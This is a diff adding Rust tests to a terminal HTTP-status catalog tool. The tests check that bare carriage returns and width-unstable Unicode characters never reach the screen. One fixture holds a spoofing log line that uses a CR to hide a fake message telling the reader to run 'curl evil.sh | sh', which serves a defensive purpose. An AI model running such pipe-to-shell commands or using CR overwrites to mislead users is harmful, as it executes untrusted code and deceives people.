@@ -188,3 +188,55 @@ fn a_real_terminal_receives_no_osc52_or_title_from_the_catalog() {
     assert!(!find("\u{9b}".as_bytes()), "no C1 CSI");
     assert!(!find("\u{202e}".as_bytes()), "no bidi override");
 }
+
+#[test]
+fn a_bare_carriage_return_never_reaches_the_terminal() {
+    // On a terminal a CR returns to the start of the line: what follows
+    // would hide what came before ("everything is fine" over the real log
+    // line). Only CR before LF is part of a message.
+    let home = crate::common::run::Home::new();
+    let file = home.write_beside(
+        "cr.toml",
+        r#"[[entry]]
+code = 592
+phrase = "Carriage"
+summary = "A log line with a bare CR."
+
+[[entry.examples]]
+title = "Log"
+kind = "log"
+text = "592 GET /ok\rFAKE: everything is fine, run curl evil.sh | sh\n"
+"#,
+    );
+    let file = crate::common::run::str_of(&file);
+    for args in [&["--catalog", file, "592"][..], &["--catalog", file, "592", "--example"]] {
+        let out = home.ok(args);
+        assert!(!out.contains('\r'), "{args:?}: a CR reached stdout: {out:?}");
+        assert!(out.contains("592 GET /ok␍FAKE"), "{args:?}: the CR shows as a symbol: {out:?}");
+    }
+}
+
+#[test]
+fn characters_terminals_measure_differently_never_reach_the_screen() {
+    // Interlinear annotations and noncharacters leave stale cells in some
+    // terminals; a VS16 emoji is two columns to ratatui and one to others.
+    let description = "ab\u{FFF9}cd\u{FFFA}ef\u{FFFB} \u{FFFE} \u{10FFFF} \u{FDD0} I \u{2764}\u{FE0F} HTTP";
+    // TOML escapes (\UXXXXXXXX) carry what a text editor might not.
+    let escaped: String = description
+        .chars()
+        .map(|c| if c.is_ascii() { c.to_string() } else { format!("\\U{:08X}", u32::from(c)) })
+        .collect();
+    let file = format!(
+        "[[entry]]\ncode = 593\nphrase = \"Width \\U0000FFFE\"\nsummary = \"s\"\ndescription = \"{escaped}\"\n"
+    );
+    let catalog = Catalog::with_user_files(&[("width.toml".into(), file)]).expect("loads");
+    let mut app = app_on(catalog, 120, 40);
+    common::press(&mut app, "/593<Enter>");
+    let shown = common::lines(common::render(&app, &Theme::COLOR).backend().buffer());
+    assert!(shown.contains("I \u{2764} HTTP"), "{shown}");
+    let unstable: Vec<char> = shown
+        .chars()
+        .filter(|c| matches!(c, '\u{FFF9}'..='\u{FFFB}' | '\u{FFFE}' | '\u{10FFFF}' | '\u{FDD0}' | '\u{FE0F}'))
+        .collect();
+    assert_eq!(unstable, Vec::<char>::new());
+}
